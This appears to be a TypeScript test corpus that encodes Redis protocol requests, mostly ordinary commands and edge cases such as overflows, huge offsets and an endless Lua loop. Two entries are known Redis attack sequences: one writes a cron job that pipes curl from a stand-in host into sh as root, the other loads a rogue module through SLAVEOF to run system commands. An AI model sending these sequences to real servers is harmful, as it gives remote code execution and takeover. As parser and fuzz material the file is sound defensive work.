const lines = (...commands: string[]): Buffer => Buffer.from(commands.map((command) => `${command}\r\n`).join(''), 'latin1')

const arrays = (...commands: string[][]): Buffer =>
  Buffer.from(
    commands.map((words) => `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`).join(''),
    'latin1',
  )

export default [
  lines('PING', 'INFO', 'SET k "a\\x41\\n"', "GET 'k'", 'QUIT'),
  arrays(
    ['SET', 'x', '\n\n*/2 * * * * root curl -fsSL http://192.0.2.1/x.sh | sh\n\n'],
    ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
    ['SAVE'],
  ),
  arrays(['SLAVEOF', '192.0.2.1', '8888'], ['MODULE', 'LOAD', './exp.so'], ['system.exec', 'id'], ['SLAVEOF', 'NO', 'ONE']),
  arrays(['EVAL', 'local t = {1,2,{3,"x"}}; for i = 1, 3 do t[i] = redis.call("incr", KEYS[1]) end; return t', '1', 'n']),
  arrays(['EVAL', 'if redis.call("get",KEYS[1]) == ARGV[1] then return redis.call("del",KEYS[1]) else return 0 end', '1', 'lock', 'token']),
  arrays(['EVAL', 'while true do end', '0'], ['EVAL', 'return cjson.encode({a=1, b={2}}) .. string.rep("x", 100000)', '0']),
  arrays(['HELLO', '3', 'AUTH', 'default', 'x', 'SETNAME', 'n'], ['CLIENT', 'LIST'], ['COMMAND', 'DOCS', 'get'], ['CONFIG', 'GET', '*']),
  arrays(['MULTI'], ['SET', 'a', '1', 'EX', '10'], ['INCRBY', 'a', '9223372036854775806'], ['EXEC'], ['DISCARD']),
  arrays(['ZADD', 'z', 'NX', '1.5', 'm', 'inf', 'n'], ['ZRANGE', 'z', '(1', '+inf', 'BYSCORE', 'LIMIT', '0', '10', 'WITHSCORES']),
  arrays(
    ['XADD', 's', 'MAXLEN', '~', '100', '*', 'f', 'v'],
    ['XRANGE', 's', '-', '+', 'COUNT', '5'],
    ['XREAD', 'COUNT', '2', 'STREAMS', 's', '0-0'],
  ),
  arrays(
    ['LPUSH', 'l', 'a', 'b', 'c'],
    ['LRANGE', 'l', '-100', '100'],
    ['BLPOP', 'none', '0.01'],
    ['SORT', 'l', 'ALPHA', 'LIMIT', '0', '2'],
  ),
  arrays(
    ['SETRANGE', 'k', '1048500', 'abc'],
    ['SETBIT', 'k', '4294967295', '1'],
    ['BITFIELD', 'k', 'GET', 'i5', '#2', 'INCRBY', 'u8', '0', '1'],
  ),
  arrays(
    ['SCAN', '0', 'MATCH', '*a*[^b]?\\*', 'COUNT', '100'],
    ['KEYS', '*'],
    ['OBJECT', 'ENCODING', 'k'],
    ['DUMP', 'k'],
    ['PSYNC', '?', '-1'],
  ),
  arrays(['SUBSCRIBE', 'a', 'b'], ['PSUBSCRIBE', 'a*'], ['UNSUBSCRIBE'], ['PUNSUBSCRIBE'], ['PUBLISH', 'a', 'b']),
  arrays(
    ['GEOADD', 'g', '13.361389', '38.115556', 'p'],
    ['GEORADIUS', 'g', '15', '37', '200', 'km', 'WITHDIST', 'WITHCOORD'],
    ['GEOHASH', 'g', 'p'],
  ),
  Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'),
]
